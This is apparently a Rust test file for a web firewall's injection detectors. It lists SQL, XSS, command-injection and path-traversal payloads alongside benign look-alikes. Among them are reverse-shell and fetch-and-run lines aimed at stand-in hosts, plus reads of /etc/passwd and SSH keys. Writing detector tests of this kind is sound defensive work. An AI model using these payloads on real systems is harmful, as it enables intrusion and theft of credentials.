//! Development cases: values as JSON fields, and the examples of the items.

use bartizan_model::{Action, Confidence, Exchange, HashKey, Message, Scope};
use bartizan_protocols::{Decoded, Pace, decode::decode, decode_paced, exchange_json::parse_line};

use super::{example, prefilter};
use crate::{
    detectors::{Hit, Lane, injection},
    facts::Facts,
    judge::{DENY_SCORE, RequestJudgement, State, judge, judge_request, score},
    snapshot::Snapshot,
};

const ITEMS: [&crate::detectors::DetectorItem; 5] = [
    &injection::sql::DETECTOR,
    &injection::xss::DETECTOR,
    &injection::command::DETECTOR,
    &injection::traversal::DETECTOR,
    &injection::xml_entity::DETECTOR,
];

fn hits(exchange: &Exchange) -> Vec<(&'static str, Hit)> {
    let snapshot = Snapshot::new(Scope::default(), HashKey::new([7; 32]));
    let decoded = decode(exchange, &snapshot.limits, snapshot.seed);
    let facts =
        Facts { exchange, decoded: &decoded, classes: &[], credentials: &[], snapshot: &snapshot };
    let scan = prefilter::scan(&facts);
    let mut out = Vec::new();
    for item in ITEMS {
        let mut found = Vec::new();
        if let Lane::Leaves(run) = item.lane {
            run(&facts, &scan, &mut found);
        }
        out.extend(found.into_iter().map(|hit| (item.class, hit)));
    }
    out
}

fn in_json(value: &str) -> Vec<(&'static str, Hit)> {
    let mut exchange = example("/v1/things", "{}");
    let body = serde_json::json!({ "id": 7, "name": value }).to_string();
    exchange.request.body = body.into_bytes().into();
    hits(&exchange)
}

/// The share of `values` for which `wrong` holds, with the values.
fn failures<'v>(
    values: &[&'v str],
    wrong: impl Fn(&[(&'static str, Hit)]) -> bool,
) -> Vec<&'v str> {
    values.iter().copied().filter(|value| wrong(&in_json(value))).collect()
}

#[test]
fn examples_of_the_items_hold() {
    for item in ITEMS {
        for example in item.examples {
            let fired = (example.exchanges)().iter().any(|exchange| {
                hits(exchange).iter().any(|(class, hit)| {
                    *class == item.class && hit.confidence >= Confidence::Medium
                })
            });
            assert_eq!(fired, example.fires, "{}: {}", item.meta.code, example.name);
        }
    }
}

#[test]
fn attacks_are_found() {
    for (class, values) in [
        ("sql_injection", SQL),
        ("cross_site_scripting", XSS),
        ("command_injection", COMMAND),
        ("path_traversal", TRAVERSAL),
    ] {
        let missed = failures(values, |hits| {
            !hits.iter().any(|(found, hit)| *found == class && hit.confidence >= Confidence::Medium)
        });
        assert!(missed.is_empty(), "{class} missed: {missed:#?}");
    }
}

#[test]
fn benign_values_stay_below_medium() {
    let wrong =
        failures(BENIGN, |hits| hits.iter().any(|(_, hit)| hit.confidence >= Confidence::Medium));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

fn alone(exchange: &Exchange, snapshot: &Snapshot, read: Pace, judge: Pace) -> RequestJudgement {
    let mut decoded = Decoded::default();
    decode_paced(&mut decoded, exchange, &snapshot.limits, snapshot.seed, read);
    judge_request(exchange, &mut decoded, snapshot, judge)
}

/// What a gateway says before the answer is what the judgement says behind it, unless the answer shows
/// what was gained.
#[test]
fn a_request_alone_is_judged_as_the_whole_exchange_is() {
    let snapshot = Snapshot::new(Scope::default(), HashKey::new([7; 32]));
    let short = |all: &[crate::judge::Raised]| -> Vec<_> {
        let one = |d: &crate::judge::Raised| (d.code, d.severity, d.confidence, d.evidence.clone());
        all.iter().map(one).collect()
    };
    let values = [SQL, XSS, COMMAND, TRAVERSAL, BENIGN].concat();
    let bodies = values.iter().map(|value| {
        let mut exchange = example("/v1/things?page=2", "{}");
        let body = serde_json::json!({ "id": 7, "name": value }).to_string();
        exchange.request.body = body.into_bytes().into();
        exchange
    });
    let examples = ITEMS.iter().flat_map(|item| item.examples);
    let mut denied = [0, 0];
    for mut exchange in bodies.chain(examples.flat_map(|example| (example.exchanges)())) {
        exchange.response = None;
        let judged = alone(&exchange, &snapshot, Pace::default(), Pace::default());
        assert!(!judged.is_late && judged.not_inspected.is_empty(), "{exchange:?}");
        exchange.response = Some(bartizan_model::Response {
            status: 200,
            headers_captured: true,
            body: "{}".into(),
            ..Default::default()
        });
        let behind = judge(&exchange, &snapshot, &mut State::new(&snapshot.scope), None);
        assert_eq!(short(&judged.detections), short(&behind.detections), "{exchange:?}");
        let is_denied = score(&judged.detections) >= DENY_SCORE;
        assert_eq!(is_denied, behind.verdict.action == Action::Deny);
        denied[usize::from(is_denied)] += 1;
    }
    assert!(denied.iter().all(|count| *count > 100), "{denied:?}");
}

/// A message behind a handshake that was judged before says what both say at once.
#[test]
fn parts_of_a_request_add_up() {
    let snapshot = Snapshot::new(Scope::default(), HashKey::new([7; 32]));
    let judged = |exchange: &Exchange| alone(exchange, &snapshot, Pace::default(), Pace::default());
    let shown = |judged: RequestJudgement| format!("{judged:?}");
    let values = [SQL, XSS, COMMAND, TRAVERSAL, BENIGN].concat();
    let others = values.iter().cycle().skip(SQL.len() / 2);
    let mut counts = [0; 3];
    for (first, second) in values.iter().zip(others) {
        let mut handshake = example("/chat", "");
        handshake.request.headers.push("x-room", *first);
        let data = serde_json::json!({ "say": second }).to_string().into();
        let said = Message { from_client: true, time: None, data, text: true };
        let message = Exchange { messages: vec![said], ..Exchange::default() };
        let both = Exchange { messages: message.messages.clone(), ..handshake.clone() };
        let mut parts = judged(&handshake);
        parts.add(judged(&message));
        counts[parts.detections.len().min(2)] += 1;
        assert_eq!(shown(parts), shown(judged(&both)), "{first} {second}");
    }
    assert!(counts.iter().all(|count| *count > 10), "{counts:?}");
}

/// What was answered may raise what was found in a request, and takes nothing away.
#[test]
fn an_answer_takes_no_detection_away() {
    let snapshot = Snapshot::new(Scope::default(), HashKey::new([7; 32]));
    let sample = include_str!("../../../../../samples/shop.jsonl");
    let (mut exchanges, mut found) = (0, 0);
    for line in sample.lines() {
        let exchange = parse_line(line.as_bytes()).expect("an exchange");
        let behind = judge(&exchange, &snapshot, &mut State::new(&snapshot.scope), None);
        let judged = alone(
            &Exchange { response: None, ..exchange },
            &snapshot,
            Pace::default(),
            Pace::default(),
        );
        for one in judged.detections {
            let same = behind.detections.iter().find(|other| other.code == one.code);
            assert!(same.is_some_and(|other| other.confidence >= one.confidence), "{line}");
            found += 1;
        }
        exchanges += 1;
    }
    assert!(exchanges > 100 && found > 0, "{found} of {exchanges}");
}

#[test]
fn time_that_is_over_ends_it_and_is_told() {
    let snapshot = Snapshot::new(Scope::default(), HashKey::new([7; 32]));
    let mut exchange = example("/v1/things?q=%27%20or%201%3D1--", "{}");
    exchange.request.body = serde_json::json!(vec!["' or 1=1--"; 2_000]).to_string().into();
    let never = Pace::new(|_| false, 0);
    let judged = alone(&exchange, &snapshot, never, never);
    assert!(judged.is_late && judged.detections.is_empty());
    let reasons: Vec<_> = judged.not_inspected.iter().map(ToString::to_string).collect();
    assert!(reasons.contains(&"request:out_of_time".to_owned()), "{reasons:?}");
    // What was read is judged, and what was not is told.
    let judged = alone(&exchange, &snapshot, never, Pace::default());
    assert!(!judged.is_late && !judged.not_inspected.is_empty());
    assert_eq!(judged.detections[0].code, "BZ-D006");
    let judged = alone(&exchange, &snapshot, Pace::default(), Pace::default());
    assert!(!judged.is_late && judged.detections[0].code == "BZ-D006");
}

#[test]
fn evidence_holds_no_values_and_is_bounded() {
    let mut exchange = example("/v1/things", "{}");
    let values = vec!["hunter2secret' or 'zz'='zz"; 40];
    exchange.request.body = serde_json::json!(values).to_string().into_bytes().into();
    let hits = hits(&exchange);
    assert_eq!(hits.len(), super::MAX_HITS);
    assert!(hits.iter().all(|(_, hit)| !format!("{:?}", hit.evidence).contains("hunter2")));
}

#[test]
fn hostile_texts_end_soon() {
    for piece in
        ["'", "<a \"", ";cat ", "../", "$(", "or 1=1 ", "((", "/*", "`", "on=", "\\\\", "{{", "é'"]
            .into_iter()
            .chain([
                "or/*", "or a ", "or/*or*/", "\n ", ";\n", "|&", "${", "',a", "a.b(", "&x", "=  ",
            ])
    {
        let text = piece.repeat(60_000 / piece.len());
        let started = std::time::Instant::now();
        let _ = in_json(&text);
        assert!(started.elapsed().as_secs() < 5, "{piece}");
    }
}

const SQL: &[&str] = &[
    "' or 1=1--",
    "' OR '1'='1",
    "x' or 'a'='a",
    "admin'--",
    "admin' #",
    "admin')--",
    "1 or 1=1",
    "1) or (1=1",
    "1 union select null,null",
    "' UnIoN/**/SeLeCt 1,version()-- -",
    "1; drop table users",
    "'; drop table users;--",
    "1'; waitfor delay '0:0:5'--",
    "1 and sleep(5)",
    "' and (select count(*) from users) > 0--",
    "1 order by 9--",
    "' order by 3#",
    "' || (select password from users limit 1) || '",
    "'||pg_sleep(5)||'",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "' and 1=convert(int,@@version)--",
    "x' and ascii(substring(user(),1,1))>64 and 'a'='a",
    "(select(0)from(select(sleep(5)))v)",
    "if(now()=sysdate(),sleep(5),0)",
    "name,(select sleep(5))",
    "' or true--",
    "\" or \"\"=\"",
    "' or 1=1 limit 1 --",
    "a' or email like '%@%'--",
    "x') union all select a,b from t where ('1'='1",
    "' having 1=1--",
    "1' and '{\"a\":1}'::jsonb @> '{\"a\":1}'--",
    "'; exec xp_cmdshell('dir')--",
    "1;select pg_sleep(3)",
    "' into outfile '/tmp/x'--",
    "＇ or 1=1--",
    "' oR/**/2>1--",
    "x', (select version()), '1')--",
    "1-sleep(5)",
    "%27%20or%201%3D1--",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><svg onload=confirm(1)>",
    "javascript:alert(document.cookie)",
    "java\tscript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc='<script>x()</script>'>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)",
    "';alert(1)//",
    "\"-alert(1)-\"",
    "</script><script>fetch('//e.example')</script>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert`1`>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<math><a xlink:href=javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "＜script＞alert(1)＜/script＞",
    "nice shop <script>alert(1)</script>",
    "<x onpointerenter=alert(1)>",
    "<a href='jav&#x61;script:alert(1)'>x",
    "<div style='width: expression(alert(1))'>",
];

const COMMAND: &[&str] = &[
    ";cat /etc/passwd",
    "127.0.0.1; id",
    "127.0.0.1|whoami",
    "x && whoami",
    "$(id)",
    "`id`",
    "a.png;curl http://192.0.2.1/x|sh",
    "8.8.8.8 & ping -c 5 192.0.2.1",
    "x\ncat /etc/passwd",
    "x;c'a't /etc/passwd",
    "x;cat${IFS}/etc/passwd",
    "| nslookup a.example.net",
    "x || sleep 10",
    "$(sleep 5)",
    "& dir c:\\",
    "|type c:\\windows\\win.ini",
    "& powershell -enc AAAA",
    "() { :;}; /bin/bash -c id",
    "${jndi:ldap://192.0.2.1/a}",
    "${${::-j}ndi:rmi://x/a}",
    "a; /bin/ls -la",
    "a;wget http://e.example/x -O /tmp/x",
    "name$(curl e.example.net)",
    "x;nc -e /bin/sh 192.0.2.1 4444",
    "bash -i >& /dev/tcp/192.0.2.1/44 0>&1",
    "file.txt;uname -a #",
    "x`curl http://e.example`",
    "{cat,/etc/passwd};ls -la",
];

const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..;/..;/WEB-INF/web.xml",
    "/etc/passwd",
    "/proc/self/environ",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "C:\\Windows\\win.ini",
    "../../../etc/passwd\u{0}.png",
    "images/../../../../../root/.ssh/id_rsa",
    "shell.php\u{0}.jpg",
    "..%252f..%252f..%252fetc%252fshadow",
    "expect://id",
    "jar:http://e.example/a.zip!/b",
    "/var/www/../../etc/shadow",
    "../../.env",
    "../.ssh/id_rsa",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "../../../../../../boot.ini",
    "/../../../../../var/log/auth.log",
    "..//..//..//..//secret",
];

const BENIGN: &[&str] = &[
    "O'Brien",
    "It's a dog's life and the cats' too",
    "rock 'n' roll or jazz",
    "students' or teachers' rights",
    "select the size, then drop it in the basket; update us later",
    "Western Union select committee",
    "Please wait; select one from the list",
    "SELECT * FROM items WHERE price > 5 ORDER BY name",
    "select name, count(*) from items group by name",
    "status = 'open' AND assignee = currentUser() ORDER BY created",
    "Name eq 'Milk' and Price lt 2.55",
    "startswith(Name,'A') or endswith(Name,'B')",
    "title:\"a b\" AND (year:2020 OR year:2021)",
    "Why does ' OR 1=1 -- log me in? Please explain it",
    "The tester typed \"' or 1=1--\" into the form and it broke",
    "a -- b",
    "see issue #3",
    "Bob's #1 fan",
    "1 or 2 pieces",
    "price <= 5 and stock > 3",
    "color: red; width: 5px",
    "5' 10\" tall",
    "'quoted' and 'also quoted'",
    "he said 'yes' or 'no'",
    "Union of select workers' groups",
    "=IF(A1>0, SUM(B1:B3), 0)",
    "^[a-z]+('[a-z]+)?$",
    "don't; won't; can't",
    "delete from my list, please",
    "2026-11-22 10:00:00",
    "Order by Friday",
    "drop table lamps on the desk",
    "time.sleep(5)",
    "L'été, c'est l'amour ou l'amitié",
    "'s-Hertogenbosch",
    "<p>Hello <b>world</b></p>",
    "<a href=\"https://example.com\">x</a>",
    "a < b and c > d",
    "<3 you",
    "<img src=\"/a.png\" alt=\"x\">",
    "<ul><li>one</li></ul>",
    "JavaScript: The Good Parts",
    "JavaScript: tips (part 2)",
    "Use the <script> tag in the head of your page, it is easy",
    "online=true",
    "I am \"on time\" = good",
    "Dear {{name}}, hello",
    "${amount} EUR",
    "x => x.id",
    "List<String> names",
    "Map<K, V>",
    "<iframe src=\"https://video.example/embed/1\"></iframe>",
    "<table><tr><td>1</td></tr></table>",
    "alert me when it's ready",
    "How do I use `<img onerror=alert(1)>` safely in React?",
    "R&D; Q&A",
    "Tom & Jerry",
    "fish & chips; peas",
    "<br/>",
    "npm ci && npm test",
    "cd app && ls -la",
    "make build; make test",
    "docker build . && docker push x",
    "cat file.txt | grep foo",
    "run `ls -la` in the folder",
    "name;id;mail",
    "name|id",
    "a | b | c",
    "| id | name |",
    "wash; cat food & toys",
    "A&B",
    "echo hello && ls",
    "sort by name; find the best",
    "black & white; more info",
    "https://e.example/?a=1&id=2",
    "https://e.example/?x=1&sort=name&date=2026",
    "$(document).ready(function(){})",
    "jQuery $(this)",
    "costs $5 (or more)",
    "git push; then tell me",
    "PATH=/usr/bin npm test",
    "who knows? | maybe",
    "../image.png",
    "./notes.md",
    "../../shared/lib",
    "/var/log/app.log",
    "/etc/nginx/nginx.conf",
    "C:\\Users\\me\\Documents\\a.docx",
    "https://example.com/a/b/c",
    "wait... / maybe",
    "s3://bucket/key",
    "1/2 or 3/4",
    "and/or",
    "24/7",
    "a/b/../c",
    "file:../shared",
    "/usr/local/bin/node",
    "~/projects/app",
    "\\d+\\s*\\w",
    "The file /etc/passwd was changed by root yesterday",
    "see ../README.md and ../LICENSE",
    "10.0.0.0/8",
    "application/json; charset=utf-8",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "2026-11-22 ERROR syntax error at or near \"'\" in line 3",
    "GET /items?id=1' OR '1'='1 HTTP/1.1 403 blocked by the firewall",
    "if (a || b) { return c; }",
    "SELECT\n  a,\n  b\nFROM t\nWHERE x = 1\nORDER BY 1",
    "{\"a\": \"b's\"}",
];
